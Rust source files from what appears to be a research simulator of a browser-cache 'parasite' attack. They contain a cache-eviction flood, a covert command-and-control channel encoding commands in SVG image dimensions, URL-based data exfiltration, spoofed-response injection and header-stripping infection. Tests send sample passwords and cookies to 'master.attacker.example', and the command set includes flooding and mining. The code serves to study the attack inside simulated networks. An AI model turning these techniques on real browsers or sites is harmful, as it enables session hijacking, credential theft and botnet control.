    pub junk_object_size: usize,
    /// Upper bound on junk objects to load before giving up.
    pub max_junk_objects: usize,
}

impl Default for EvictionAttack {
    fn default() -> Self {
        EvictionAttack {
            junk_object_size: 512 * 1024,
            max_junk_objects: 4096,
        }
    }
}

impl EvictionAttack {
    /// Creates an attack with explicit junk sizing (useful to keep unit tests
    /// and benches fast with small simulated caches).
    pub fn new(junk_object_size: usize, max_junk_objects: usize) -> Self {
        EvictionAttack {
            junk_object_size,
            max_junk_objects,
        }
    }

    /// Runs the eviction phase against a browser whose transport already
    /// resolves the attacker's junk host (any transport will do — unknown
    /// hosts simply produce uncacheable 404s, so use a transport that serves
    /// the junk host for a faithful run).
    ///
    /// `targets` are the URLs whose cached copies must disappear.
    pub fn run(&self, browser: &mut Browser, targets: &[Url]) -> EvictionReport {
        let profile = browser.profile().clone();
        let initially_cached: Vec<Url> = targets
            .iter()
            .filter(|t| browser.cache().contains_any_partition(t))
            .cloned()
            .collect();

        let mut junk_loaded = 0usize;
        let mut junk_bytes = 0u64;
        for index in 0..self.max_junk_objects {
            // Stop as soon as every initially cached target is gone.
            if initially_cached
                .iter()
                .all(|t| !browser.cache().contains_any_partition(t))
            {
                break;
            }
            let junk = junk_url(index);
            let result = browser.fetch(&junk, JUNK_HOST);
            junk_loaded += 1;
            junk_bytes += result.response.body.len() as u64;
        }

        let evicted_targets = targets
            .iter()
            .all(|t| !browser.cache().contains_any_partition(t));
        let remark = Self::remark(&profile, browser);

        EvictionReport {
            browser: format!("{} {}", profile.kind, profile.version),
            evicted_targets,
            inter_domain: profile.inter_domain_eviction,
            junk_objects_loaded: junk_loaded,
            junk_bytes,
            memory_pressure: browser.cache().memory_pressure(),
            cache_capacity_bytes: profile.cache_capacity_bytes,
            remark,
        }
    }

    fn remark(profile: &BrowserProfile, browser: &Browser) -> String {
        match profile.eviction {
            EvictionBehaviour::UnboundedGrowth => {
                if browser.cache().memory_pressure() > 1.0 {
                    "DOS on memory".to_string()
                } else {
                    "no eviction".to_string()
                }
            }
            EvictionBehaviour::LruWithSlowdown => "performance impact".to_string(),
            EvictionBehaviour::Lru => String::new(),
        }
    }
}

/// Builds the attacker's junk-object origin: a static origin serving
/// cacheable image blobs of the configured size.
pub fn junk_origin(object_size: usize, object_count: usize) -> mp_httpsim::transport::StaticOrigin {
    use mp_httpsim::body::{Body, ResourceKind};
    use mp_httpsim::message::Response;
    let mut origin = mp_httpsim::transport::StaticOrigin::new(JUNK_HOST);
    for index in 0..object_count {
        origin.put(
            format!("/junk{index:04}.jpg"),
            Response::ok(Body::binary(ResourceKind::Image, vec![0xAB; object_size]))
                .with_cache_control("public, max-age=31536000"),
        );
    }
    origin
}

#[cfg(test)]
mod tests {
    use super::*;
    use mp_browser::profile::BrowserProfile;
    use mp_httpsim::body::ResourceKind;
    use mp_httpsim::transport::{Internet, StaticOrigin};

    fn victim_site() -> StaticOrigin {
        let mut origin = StaticOrigin::new("bank.example");
        origin.put_text("/app.js", ResourceKind::JavaScript, "bank()", "public, max-age=86400");
        origin
    }

    fn world(junk_size: usize, junk_count: usize) -> Internet {
        let mut net = Internet::new();
        net.register_origin(victim_site());
        net.register_origin(junk_origin(junk_size, junk_count));
        net
    }

    fn tiny_profile(kind_profile: BrowserProfile, capacity: u64) -> BrowserProfile {
        BrowserProfile {
            cache_capacity_bytes: capacity,
            ..kind_profile
        }
    }

    #[test]
    fn junk_flood_evicts_the_target_from_an_lru_cache() {
        let profile = tiny_profile(BrowserProfile::chrome(), 20_000);
        let mut browser = Browser::new(profile, Box::new(world(2_000, 64)));
        let target = Url::parse("http://bank.example/app.js").unwrap();
        browser.fetch(&target, "bank.example");
        assert!(browser.cache().contains_any_partition(&target));

        let attack = EvictionAttack::new(2_000, 64);
        let report = attack.run(&mut browser, std::slice::from_ref(&target));
        assert!(report.evicted_targets, "{report:?}");
        assert!(report.inter_domain);
        assert!(report.junk_objects_loaded > 0);
        assert!(report.remark.is_empty());
        assert!(!browser.cache().contains_any_partition(&target));
    }

    #[test]
    fn ie_profile_reports_memory_dos_instead_of_evicting() {
        let profile = tiny_profile(BrowserProfile::internet_explorer(), 20_000);
        let mut browser = Browser::new(profile, Box::new(world(2_000, 64)));
        let target = Url::parse("http://bank.example/app.js").unwrap();
        browser.fetch(&target, "bank.example");

        let attack = EvictionAttack::new(2_000, 64);
        let report = attack.run(&mut browser, std::slice::from_ref(&target));
        assert!(!report.evicted_targets);
        assert!(!report.inter_domain);
        assert!(report.memory_pressure > 1.0);
        assert_eq!(report.remark, "DOS on memory");
        assert!(browser.cache().contains_any_partition(&target));
    }

    #[test]
    fn firefox_notes_the_performance_impact() {
        let profile = tiny_profile(BrowserProfile::firefox(), 20_000);
        let mut browser = Browser::new(profile, Box::new(world(2_000, 64)));
        let target = Url::parse("http://bank.example/app.js").unwrap();
        browser.fetch(&target, "bank.example");
        let report = EvictionAttack::new(2_000, 64).run(&mut browser, &[target]);
        assert!(report.evicted_targets);
        assert_eq!(report.remark, "performance impact");
    }

    #[test]
    fn inline_script_and_junk_urls_are_well_formed() {
        let script = eviction_inline_script(64);
        assert!(script.contains(JUNK_HOST));
        assert!(script.contains("64"));
        let url = junk_url(3);
        assert_eq!(url.host, JUNK_HOST);
        assert_eq!(url.path, "/junk0003.jpg");
    }

    #[test]
    fn uncached_targets_report_success_without_loading_junk() {
        let profile = tiny_profile(BrowserProfile::chrome(), 20_000);
        let mut browser = Browser::new(profile, Box::new(world(2_000, 8)));
        let target = Url::parse("http://bank.example/app.js").unwrap();
        // Target never cached: nothing to evict.
        let report = EvictionAttack::new(2_000, 8).run(&mut browser, &[target]);
        assert!(report.evicted_targets);
        assert_eq!(report.junk_objects_loaded, 0);
    }
}
