//! Command & Control covert channel (paper §VI-C, Figure 4).
//!
//! The parasite and the master communicate without any protocol that CORS or
//! CSP could recognise as such:
//!
//! * **Downstream (master → parasite):** the parasite loads a sequence of
//!   cross-origin SVG images from the master's server. The only properties a
//!   cross-origin image exposes to the page are its width and height, each
//!   clamped to 65 535 — so every image carries 2 × 16 bits = 4 bytes of
//!   payload. An empty SVG is ≈100 bytes on the wire, and with parallel image
//!   requests the paper measures ≈100 KB/s of goodput.
//! * **Upstream (parasite → master):** data is encoded into the URL (path /
//!   query parameters) of requests to the master's server — no bandwidth
//!   limitation applies.

use mp_httpsim::body::{Body, ResourceKind};
use mp_httpsim::message::{Request, Response};
use mp_httpsim::transport::Exchange;
use mp_httpsim::url::{Scheme, Url};
use serde::{Deserialize, Serialize};
use std::collections::VecDeque;

/// Maximum value a browser reports for an image dimension.
pub const MAX_DIMENSION: u16 = u16::MAX;
/// Payload bytes carried per image (width + height).
pub const BYTES_PER_IMAGE: usize = 4;
/// Approximate wire size of one content-less SVG, in bytes.
pub const SVG_OVERHEAD_BYTES: usize = 100;

/// A command the master can send to its parasites.
#[derive(Debug, Clone, PartialEq, Eq, Serialize, Deserialize)]
pub enum Command {
    /// Do nothing (keep-alive).
    Idle,
    /// Execute a module by tag (see [`crate::script::ParasiteModule::tag`]).
    ExecuteModule(String),
    /// Exfiltrate all data the module set has collected.
    ExfiltrateAll,
    /// Load the given URL in an iframe (propagation command).
    PropagateTo(String),
    /// Start mining / resource-theft work for the given number of work units.
    Mine(u32),
    /// Flood the given host (browser-based DDoS).
    Flood(String),
}

impl Command {
    /// Serialises the command to bytes for the image channel.
    pub fn to_bytes(&self) -> Vec<u8> {
        let (tag, body): (u8, String) = match self {
            Command::Idle => (0, String::new()),
            Command::ExecuteModule(module) => (1, module.clone()),
            Command::ExfiltrateAll => (2, String::new()),
            Command::PropagateTo(target) => (3, target.clone()),
            Command::Mine(units) => (4, units.to_string()),
            Command::Flood(host) => (5, host.clone()),
        };
        let mut bytes = vec![tag];
        bytes.extend_from_slice(body.as_bytes());
        bytes
    }

    /// Parses a command from bytes.
    pub fn from_bytes(bytes: &[u8]) -> Option<Command> {
        let (&tag, body) = bytes.split_first()?;
        let body = String::from_utf8_lossy(body).into_owned();
        match tag {
            0 => Some(Command::Idle),
            1 => Some(Command::ExecuteModule(body)),
            2 => Some(Command::ExfiltrateAll),
            3 => Some(Command::PropagateTo(body)),
            4 => body.parse().ok().map(Command::Mine),
            5 => Some(Command::Flood(body)),
            _ => None,
        }
    }
}

/// Dimensions of one channel image.
#[derive(Debug, Clone, Copy, PartialEq, Eq, Serialize, Deserialize)]
pub struct ImageDimensions {
    /// Width in pixels.
    pub width: u16,
    /// Height in pixels.
    pub height: u16,
}

/// Encodes a byte message into a sequence of image dimensions. The first
/// image carries the message length so the decoder knows where padding ends.
pub fn encode_dimensions(message: &[u8]) -> Vec<ImageDimensions> {
    let mut framed = (message.len() as u32).to_be_bytes().to_vec();
    framed.extend_from_slice(message);
    while !framed.len().is_multiple_of(BYTES_PER_IMAGE) {
        framed.push(0);
    }
    framed
        .chunks(BYTES_PER_IMAGE)
        .map(|chunk| ImageDimensions {
            width: u16::from_be_bytes([chunk[0], chunk[1]]),
            height: u16::from_be_bytes([chunk[2], chunk[3]]),
        })
        .collect()
}

/// Decodes a byte message from observed image dimensions.
pub fn decode_dimensions(images: &[ImageDimensions]) -> Option<Vec<u8>> {
    let mut bytes = Vec::with_capacity(images.len() * BYTES_PER_IMAGE);
    for image in images {
        bytes.extend_from_slice(&image.width.to_be_bytes());
        bytes.extend_from_slice(&image.height.to_be_bytes());
    }
    if bytes.len() < 4 {
        return None;
    }
    let length = u32::from_be_bytes([bytes[0], bytes[1], bytes[2], bytes[3]]) as usize;
    if bytes.len() < 4 + length {
        return None;
    }
    Some(bytes[4..4 + length].to_vec())
}

/// Renders the SVG body for one channel image.
pub fn svg_for(dimensions: ImageDimensions) -> String {
    format!(
        "<svg xmlns=\"http://www.w3.org/2000/svg\" width=\"{}\" height=\"{}\"></svg>",
        dimensions.width, dimensions.height
    )
}

/// The inverse of [`svg_for`]: reads the width/height attributes back from an
/// SVG body — all a cross-origin parasite can observe about the image.
pub fn parse_svg_dimensions(svg: &str) -> Option<ImageDimensions> {
    fn attr(svg: &str, name: &str) -> Option<u16> {
        svg.split(&format!("{name}=\""))
            .nth(1)?
            .split('"')
            .next()?
            .parse()
            .ok()
    }
    Some(ImageDimensions {
        width: attr(svg, "width")?,
        height: attr(svg, "height")?,
    })
}

/// Encodes upstream data into a URL on the master's host (hex in a query
/// parameter, so arbitrary bytes survive).
pub fn encode_upstream(master_host: &str, campaign: &str, data: &[u8]) -> Url {
    let hex: String = data.iter().map(|b| format!("{b:02x}")).collect();
    let mut url = Url::from_parts(Scheme::Http, master_host, "/exfil");
    url.query = Some(format!("c={campaign}&d={hex}"));
    url
}

/// Decodes upstream data from a request URL to the master's server.
pub fn decode_upstream(url: &Url) -> Option<(String, Vec<u8>)> {
    let query = url.query.as_deref()?;
    let mut campaign = None;
    let mut data = None;
    for pair in query.split('&') {
        let (key, value) = pair.split_once('=')?;
        match key {
            "c" => campaign = Some(value.to_string()),
            "d" => {
                let mut bytes = Vec::with_capacity(value.len() / 2);
                let chars: Vec<char> = value.chars().collect();
                for pair in chars.chunks(2) {
                    if pair.len() != 2 {
                        return None;
                    }
                    let hi = pair[0].to_digit(16)?;
                    let lo = pair[1].to_digit(16)?;
                    bytes.push((hi * 16 + lo) as u8);
                }
                data = Some(bytes);
            }
            _ => {}
        }
    }
    Some((campaign?, data?))
}

/// A record of data a parasite exfiltrated to the master.
#[derive(Debug, Clone, PartialEq, Eq, Serialize, Deserialize)]
pub struct ExfilRecord {
    /// Campaign the bot belongs to.
    pub campaign: String,
    /// The exfiltrated bytes.
    pub data: Vec<u8>,
}

/// The master's C&C server: queues commands for its bots and collects
/// exfiltrated data. It is an [`Exchange`] so parasites reach it with plain
/// image/URL requests like any other web traffic.
#[derive(Debug, Clone, Default, PartialEq, Serialize, Deserialize)]
pub struct CncServer {
    /// Host name the server answers on.
    pub host: String,
    commands: VecDeque<Command>,
    exfiltrated: Vec<ExfilRecord>,
    /// Images served so far (for throughput accounting).
    pub images_served: u64,
    /// Upstream requests received.
    pub upstream_requests: u64,
}

impl CncServer {
    /// Creates a C&C server for `host`.
    pub fn new(host: impl Into<String>) -> Self {
        CncServer {
            host: host.into(),
            ..Default::default()
        }
    }

    /// Queues a command for the bots.
    pub fn queue_command(&mut self, command: Command) {
        self.commands.push_back(command);
    }

    /// Number of commands still queued.
    pub fn pending_commands(&self) -> usize {
        self.commands.len()
    }

    /// Everything the bots have exfiltrated so far.
    pub fn exfiltrated(&self) -> &[ExfilRecord] {
        &self.exfiltrated
    }

    /// Returns the SVG responses encoding the next queued command, consuming
    /// it. The parasite issues one image request per returned response.
    pub fn serve_next_command(&mut self) -> Vec<Response> {
        let command = self.commands.pop_front().unwrap_or(Command::Idle);
        let dimensions = encode_dimensions(&command.to_bytes());
        self.images_served += dimensions.len() as u64;
        dimensions
            .into_iter()
            .map(|d| {
                Response::ok(Body::text(ResourceKind::Svg, svg_for(d))).with_cache_control("no-store")
            })
            .collect()
    }

    /// Records exfiltrated data arriving on an upstream URL.
    pub fn receive_upstream(&mut self, url: &Url) -> bool {
        match decode_upstream(url) {
            Some((campaign, data)) => {
                self.upstream_requests += 1;
                self.exfiltrated.push(ExfilRecord { campaign, data });
                true
            }
            None => false,
        }
    }
}

impl Exchange for CncServer {
    fn exchange(&mut self, request: &Request) -> Response {
        if !request.url.host.eq_ignore_ascii_case(&self.host) {
            return Response::not_found();
        }
        if request.url.path == "/exfil" {
            self.receive_upstream(&request.url);
            return Response::ok(Body::binary(ResourceKind::Image, vec![0u8; 1]))
                .with_cache_control("no-store");
        }
        if request.url.path.starts_with("/cc/") {
            // One image per request: /cc/<index> serves that image of the
            // currently pending command without consuming the queue; the
            // higher-level Master decides when to advance.
            return Response::ok(Body::text(
                ResourceKind::Svg,
                svg_for(ImageDimensions { width: 1, height: 1 }),
            ))
            .with_cache_control("no-store");
        }
        Response::not_found()
    }

    fn name(&self) -> &str {
        &self.host
    }
}

/// Estimated downstream goodput of the image channel in bytes per second.
///
/// `parallel_requests` images are in flight at once and each takes `rtt_ms`
/// milliseconds to fetch; every image carries [`BYTES_PER_IMAGE`] payload
/// bytes.
pub fn downstream_goodput_bytes_per_sec(parallel_requests: u32, rtt_ms: f64) -> f64 {
    if rtt_ms <= 0.0 {
        return f64::INFINITY;
    }
    let images_per_sec = parallel_requests as f64 * (1000.0 / rtt_ms);
    images_per_sec * BYTES_PER_IMAGE as f64
}

/// Channel efficiency: payload bytes per wire byte of the downstream channel.
pub fn downstream_efficiency() -> f64 {
    BYTES_PER_IMAGE as f64 / SVG_OVERHEAD_BYTES as f64
}

#[cfg(test)]
mod tests {
    use super::*;

    #[test]
    fn dimensions_encoding_round_trips() {
        for message in [&b""[..], b"x", b"steal:cookies", &[0u8, 255, 128, 7, 9][..]] {
            let images = encode_dimensions(message);
            let decoded = decode_dimensions(&images).unwrap();
            assert_eq!(decoded, message);
        }
    }

    #[test]
    fn each_image_carries_four_bytes() {
        let message = vec![0xAAu8; 40];
        let images = encode_dimensions(&message);
        // 4 length bytes + 40 payload bytes = 44 bytes -> 11 images.
        assert_eq!(images.len(), 11);
        assert_eq!(decode_dimensions(&images).unwrap(), message);
    }

    #[test]
    fn truncated_image_sequences_fail_to_decode() {
        let images = encode_dimensions(b"a longer message that spans several images");
        assert!(decode_dimensions(&images[..1]).is_none());
        assert!(decode_dimensions(&[]).is_none());
    }

    #[test]
    fn commands_round_trip_through_bytes() {
        for command in [
            Command::Idle,
            Command::ExecuteModule("login-data".into()),
            Command::ExfiltrateAll,
            Command::PropagateTo("https://bank.example/".into()),
            Command::Mine(500),
            Command::Flood("victim.example".into()),
        ] {
            assert_eq!(Command::from_bytes(&command.to_bytes()), Some(command));
        }
        assert_eq!(Command::from_bytes(&[99, 1, 2]), None);
        assert_eq!(Command::from_bytes(&[]), None);
    }

    #[test]
    fn svg_is_small_and_carries_the_dimensions() {
        let svg = svg_for(ImageDimensions { width: 31337, height: 42 });
        assert!(svg.contains("width=\"31337\""));
        assert!(svg.contains("height=\"42\""));
        assert!(svg.len() <= SVG_OVERHEAD_BYTES + 20, "svg is {} bytes", svg.len());
    }

    #[test]
    fn upstream_url_encoding_round_trips() {
        let url = encode_upstream("master.attacker.example", "campaign-0", b"user=alice&pass=hunter2");
        let (campaign, data) = decode_upstream(&url).unwrap();
        assert_eq!(campaign, "campaign-0");
        assert_eq!(data, b"user=alice&pass=hunter2");
        assert!(decode_upstream(&Url::parse("http://master.attacker.example/exfil").unwrap()).is_none());
    }

    #[test]
    fn server_serves_commands_and_collects_exfil() {
        let mut server = CncServer::new("master.attacker.example");
        server.queue_command(Command::ExecuteModule("login-data".into()));
        let responses = server.serve_next_command();
        assert!(!responses.is_empty());
        assert!(responses.iter().all(|r| r.body.kind == ResourceKind::Svg));

        // Parasite side: recover the dimensions from the SVGs and decode.
        let dims: Vec<ImageDimensions> = responses
            .iter()
            .map(|r| parse_svg_dimensions(&r.body.as_text()).unwrap())
            .collect();
        let command = Command::from_bytes(&decode_dimensions(&dims).unwrap()).unwrap();
        assert_eq!(command, Command::ExecuteModule("login-data".into()));

        // Upstream.
        let url = encode_upstream("master.attacker.example", "campaign-0", b"cookie=SID:abc");
        assert!(server.receive_upstream(&url));
        assert_eq!(server.exfiltrated().len(), 1);
        assert_eq!(server.exfiltrated()[0].data, b"cookie=SID:abc");

        // Empty queue serves an Idle keep-alive.
        let idle = server.serve_next_command();
        assert!(!idle.is_empty());
    }

    #[test]
    fn goodput_model_matches_the_papers_100kbps_claim() {
        // ~25 parallel requests at a 1 ms local RTT give ≈100 KB/s.
        let goodput = downstream_goodput_bytes_per_sec(25, 1.0);
        assert!((goodput - 100_000.0).abs() < 1.0, "{goodput}");
        assert!(downstream_goodput_bytes_per_sec(25, 10.0) < goodput);
        assert!(downstream_efficiency() > 0.0 && downstream_efficiency() < 1.0);
    }
}
