//! Injection of parasites into the victim's traffic (paper §V).
//!
//! Two models of the same attacker are provided, at two levels of detail:
//!
//! * [`MasterTap`] operates at the packet level on an `mp-netsim` shared
//!   medium. It watches for HTTP requests to target objects, forges the
//!   infected response as spoofed TCP segments and races the genuine server
//!   (Figure 2, Table II).
//! * [`InjectingExchange`] operates at the HTTP level: it wraps the path to
//!   the real origin as an [`mp_httpsim::transport::Exchange`] and replaces
//!   the responses for target objects with infected copies, subject to the
//!   same reachability rules (only injectable schemes/deployments). It is the
//!   transport used for the browser-level experiments, where simulating every
//!   packet would add nothing.

use crate::infect::Infector;
use mp_httpsim::message::{Request, Response};
use mp_httpsim::tls::TlsDeployment;
use mp_httpsim::transport::Exchange;
use mp_httpsim::url::{Scheme, Url};
use bytes::Bytes;
use mp_netsim::attacker::{Injection, Injector, Tap};
use mp_netsim::packet::Packet;
use mp_netsim::time::Instant;
use parking_lot::Mutex;
use std::collections::HashMap;
use std::sync::Arc;

/// Shared statistics about what the master injected.
#[derive(Debug, Clone, Default)]
pub struct InjectionStats {
    /// Requests observed for target objects.
    pub target_requests_seen: u64,
    /// Infected responses injected.
    pub responses_injected: u64,
    /// Requests passed through untouched.
    pub passthrough: u64,
}

/// Handle to injection statistics shared with the simulator-side tap.
pub type SharedInjectionStats = Arc<Mutex<InjectionStats>>;

/// Packet-level master: a [`Tap`] for `mp-netsim` shared media.
pub struct MasterTap {
    infector: Infector,
    injector: Injector,
    /// Origin content the master has prepared in advance, keyed by
    /// `(host, path)` — "waiting for an HTTP request to one of the objects he
    /// has prepared" (§V). Stored pre-serialised as [`Bytes`], so every
    /// injection slices the one buffer instead of re-encoding the response.
    prepared_objects: HashMap<(String, String), Bytes>,
    stats: SharedInjectionStats,
}

impl MasterTap {
    /// Creates a packet-level master and returns it with a handle to its
    /// statistics.
    pub fn new(infector: Infector, reaction: mp_netsim::time::Duration) -> (Self, SharedInjectionStats) {
        let stats: SharedInjectionStats = Arc::new(Mutex::new(InjectionStats::default()));
        (
            MasterTap {
                infector,
                injector: Injector::new(reaction),
                prepared_objects: HashMap::new(),
                stats: Arc::clone(&stats),
            },
            stats,
        )
    }

    /// Registers a target object the master has fetched and infected ahead of
    /// time.
    pub fn prepare_object(&mut self, url: &Url, genuine: Response) {
        let infected = self.infector.infect_response(&genuine);
        self.prepared_objects
            .insert((url.host.clone(), url.path.clone()), Bytes::from(infected.to_wire()));
    }

    fn parse_request(payload: &[u8]) -> Option<(String, String)> {
        let text = std::str::from_utf8(payload).ok()?;
        let mut lines = text.lines();
        let request_line = lines.next()?;
        let mut parts = request_line.split_whitespace();
        if parts.next()? != "GET" {
            return None;
        }
        let target = parts.next()?.to_string();
        let path = target.split('?').next().unwrap_or(&target).to_string();
        let host = lines
            .filter_map(|l| l.split_once(':'))
            .find(|(name, _)| name.trim().eq_ignore_ascii_case("host"))
            .map(|(_, value)| value.trim().to_ascii_lowercase())?;
        Some((host, path))
    }
}

impl Tap for MasterTap {
    fn observe(&mut self, packet: &Packet, _now: Instant) -> Vec<Injection> {
        let Some((host, path)) = Self::parse_request(&packet.segment.payload) else {
            return Vec::new();
        };
        let Some(infected) = self.prepared_objects.get(&(host, path)) else {
            self.stats.lock().passthrough += 1;
            return Vec::new();
        };
        let mut stats = self.stats.lock();
        stats.target_requests_seen += 1;
        stats.responses_injected += 1;
        drop(stats);
        self.injector.forge_response_bytes(packet, infected.clone())
    }

    fn name(&self) -> &str {
        "master"
    }
}

/// How the attacker decides whether it can inject into a connection at all.
#[derive(Debug, Clone, Default)]
pub struct Injectability {
    /// TLS deployment per host; hosts not listed are assumed to use modern,
    /// correctly deployed HTTPS when reached over `https://` URLs.
    pub deployments: HashMap<String, TlsDeployment>,
}

impl Injectability {
    /// Registers a host's TLS deployment.
    pub fn set(&mut self, host: &str, deployment: TlsDeployment) {
        self.deployments.insert(host.to_ascii_lowercase(), deployment);
    }

    /// Returns `true` if the master can inject into requests for `url`:
    /// always for plain HTTP, and for HTTPS only when the deployment is
    /// broken (vulnerable SSL, fraudulent certificate, user-ignored errors).
    pub fn injectable(&self, url: &Url) -> bool {
        match url.scheme {
            Scheme::Http => true,
            Scheme::Https => self
                .deployments
                .get(&url.host)
                .map(|d| d.injectable())
                .unwrap_or(false),
        }
    }
}

/// HTTP-level master: an on-path [`Exchange`] wrapper that infects responses
/// for target objects while the victim is on the attacker's network.
pub struct InjectingExchange<U> {
    upstream: U,
    infector: Infector,
    /// Target object predicates: exact (host, path) pairs.
    targets: Vec<(String, String)>,
    /// Infect *every* infectable response rather than just listed targets —
    /// what the propagation phase does once the beachhead is established.
    infect_all: bool,
    injectability: Injectability,
    /// Whether the attack is currently active (the victim is on the hostile
    /// network). When inactive, the wrapper is a pure pass-through.
    active: bool,
    stats: InjectionStats,
}

impl<U> InjectingExchange<U> {
    /// Creates an injecting wrapper around the path to the genuine origins.
    pub fn new(upstream: U, infector: Infector) -> Self {
        InjectingExchange {
            upstream,
            infector,
            targets: Vec::new(),
            infect_all: false,
            injectability: Injectability::default(),
            active: true,
            stats: InjectionStats::default(),
        }
    }

    /// Adds a target object to infect.
    pub fn add_target(&mut self, url: &Url) {
        self.targets.push((url.host.clone(), url.path.clone()));
    }

    /// Switches to infect-everything mode (used by the propagation phase).
    pub fn infect_all(&mut self, enabled: bool) {
        self.infect_all = enabled;
    }

    /// Access to the injectability rules.
    pub fn injectability_mut(&mut self) -> &mut Injectability {
        &mut self.injectability
    }

    /// Activates or deactivates the attacker (victim joins / leaves the
    /// hostile network).
    pub fn set_active(&mut self, active: bool) {
        self.active = active;
    }

    /// Injection statistics.
    pub fn stats(&self) -> &InjectionStats {
        &self.stats
    }

    fn is_target(&self, url: &Url) -> bool {
        self.infect_all
            || self
                .targets
                .iter()
                .any(|(host, path)| host == &url.host && path == &url.path)
    }
}

impl<U: Exchange> Exchange for InjectingExchange<U> {
    fn exchange(&mut self, request: &Request) -> Response {
        if !self.active || !self.is_target(&request.url) || !self.injectability.injectable(&request.url) {
            self.stats.passthrough += 1;
            return self.upstream.exchange(request);
        }
        self.stats.target_requests_seen += 1;
        // Strip validators so the origin hands back a full body to infect
        // rather than a 304.
        let manipulated = self.infector.manipulate_request(request);
        let genuine = self.upstream.exchange(&manipulated);
        let infected = self.infector.infect_response(&genuine);
        if infected != genuine {
            self.stats.responses_injected += 1;
        }
        infected
    }

    fn name(&self) -> &str {
        "injecting-path"
    }
}

#[cfg(test)]
mod tests {
    use super::*;
    use crate::script::Parasite;
    use mp_httpsim::body::{Body, ResourceKind};
    use mp_httpsim::tls::TlsVersion;
    use mp_httpsim::transport::StaticOrigin;

    fn url(s: &str) -> Url {
        Url::parse(s).unwrap()
    }

    fn origin() -> StaticOrigin {
        let mut origin = StaticOrigin::new("somesite.com");
        origin.put(
            "/my.js",
            Response::ok(Body::text(ResourceKind::JavaScript, "function genuine(){}"))
                .with_cache_control("max-age=600")
                .with_etag("\"v1\""),
        );
        origin.put_text("/other.js", ResourceKind::JavaScript, "function other(){}", "max-age=600");
        origin
    }

    fn infector() -> Infector {
        Infector::new(Parasite::standard("master.attacker.example"))
    }

    #[test]
    fn listed_targets_are_infected_and_others_pass_through() {
        let mut path = InjectingExchange::new(origin(), infector());
        path.add_target(&url("http://somesite.com/my.js"));

        let infected = path.exchange(&Request::get(url("http://somesite.com/my.js")));
        assert!(Parasite::detect(&infected.body.as_text()).is_some());

        let clean = path.exchange(&Request::get(url("http://somesite.com/other.js")));
        assert!(Parasite::detect(&clean.body.as_text()).is_none());

        assert_eq!(path.stats().responses_injected, 1);
        assert_eq!(path.stats().passthrough, 1);
    }

    #[test]
    fn conditional_requests_for_targets_get_full_infected_bodies() {
        let mut path = InjectingExchange::new(origin(), infector());
        path.add_target(&url("http://somesite.com/my.js"));
        let conditional = Request::get(url("http://somesite.com/my.js")).with_etag_validator("\"v1\"");
        let response = path.exchange(&conditional);
        assert!(response.status.is_success(), "304 must be prevented");
        assert!(Parasite::detect(&response.body.as_text()).is_some());
    }

    #[test]
    fn https_targets_require_a_broken_deployment() {
        let mut https_origin = StaticOrigin::new("bank.example");
        https_origin.put_text("/app.js", ResourceKind::JavaScript, "bank()", "max-age=600");
        let mut path = InjectingExchange::new(https_origin, infector());
        path.add_target(&url("https://bank.example/app.js"));

        // Modern HTTPS (default assumption): injection fails, genuine body flows.
        let clean = path.exchange(&Request::get(url("https://bank.example/app.js")));
        assert!(Parasite::detect(&clean.body.as_text()).is_none());

        // Same host with a vulnerable SSL deployment: injectable.
        path.injectability_mut()
            .set("bank.example", TlsDeployment::legacy_ssl(TlsVersion::Ssl3));
        let infected = path.exchange(&Request::get(url("https://bank.example/app.js")));
        assert!(Parasite::detect(&infected.body.as_text()).is_some());
    }

    #[test]
    fn inactive_attacker_is_a_pure_passthrough() {
        let mut path = InjectingExchange::new(origin(), infector());
        path.add_target(&url("http://somesite.com/my.js"));
        path.set_active(false);
        let response = path.exchange(&Request::get(url("http://somesite.com/my.js")));
        assert!(Parasite::detect(&response.body.as_text()).is_none());
        assert_eq!(path.stats().responses_injected, 0);
    }

    #[test]
    fn infect_all_mode_hits_every_script() {
        let mut path = InjectingExchange::new(origin(), infector());
        path.infect_all(true);
        let a = path.exchange(&Request::get(url("http://somesite.com/my.js")));
        let b = path.exchange(&Request::get(url("http://somesite.com/other.js")));
        assert!(Parasite::detect(&a.body.as_text()).is_some());
        assert!(Parasite::detect(&b.body.as_text()).is_some());
    }

    #[test]
    fn master_tap_parses_requests_and_injects_prepared_objects() {
        use mp_netsim::addr::IpAddr;
        use mp_netsim::packet::Segment;
        use mp_netsim::seq::SeqNum;

        let (mut tap, stats) = MasterTap::new(infector(), mp_netsim::time::Duration::from_micros(300));
        let genuine = Response::ok(Body::text(ResourceKind::JavaScript, "function genuine(){}"))
            .with_cache_control("max-age=600");
        tap.prepare_object(&url("http://somesite.com/my.js"), genuine);

        let request_bytes = Request::get(url("http://somesite.com/my.js")).to_wire();
        let segment = Segment::data(51000, 80, SeqNum::new(100), SeqNum::new(200), request_bytes);
        let packet = Packet::new(IpAddr::new(10, 0, 0, 2), IpAddr::new(203, 0, 113, 9), segment);

        let injections = tap.observe(&packet, Instant::ZERO);
        assert!(!injections.is_empty());
        assert!(injections[0].packet.spoofed);
        let wire: Vec<u8> = injections
            .iter()
            .flat_map(|i| i.packet.segment.payload.to_vec())
            .collect();
        let response = Response::from_wire(&wire).unwrap();
        assert!(Parasite::detect(&response.body.as_text()).is_some());
        assert_eq!(stats.lock().responses_injected, 1);

        // A request for an unprepared object is ignored.
        let other = Request::get(url("http://somesite.com/unknown.js")).to_wire();
        let segment = Segment::data(51000, 80, SeqNum::new(100), SeqNum::new(200), other);
        let packet = Packet::new(IpAddr::new(10, 0, 0, 2), IpAddr::new(203, 0, 113, 9), segment);
        assert!(tap.observe(&packet, Instant::ZERO).is_empty());
        assert_eq!(stats.lock().passthrough, 1);
    }
}
