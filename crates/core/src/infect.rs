//! Infecting objects with parasites (paper §VI-A).
//!
//! Given the genuine response for a target object, the master builds the
//! infected copy that it will race against the server:
//!
//! * JavaScript objects get `";PARASITE_CODE;"` appended so the original
//!   functionality is preserved,
//! * HTML objects optionally get a `<script>` block inserted before
//!   `</body>`,
//! * caching headers are rewritten so the victim keeps the infected copy as
//!   long as possible,
//! * security headers (CSP, HSTS, frame restrictions) are stripped so the
//!   parasite can propagate and exfiltrate,
//! * validators are removed from forwarded revalidation requests so the
//!   server answers `200` with a full body rather than `304 Not Modified`.

use crate::script::Parasite;
use mp_httpsim::body::{Body, ResourceKind};
use mp_httpsim::caching::parasite_pin_header;
use mp_httpsim::headers::names;
use mp_httpsim::message::{Request, Response};
use serde::{Deserialize, Serialize};

/// Configuration of the infection step.
#[derive(Debug, Clone, PartialEq, Eq, Serialize, Deserialize)]
pub struct InfectionConfig {
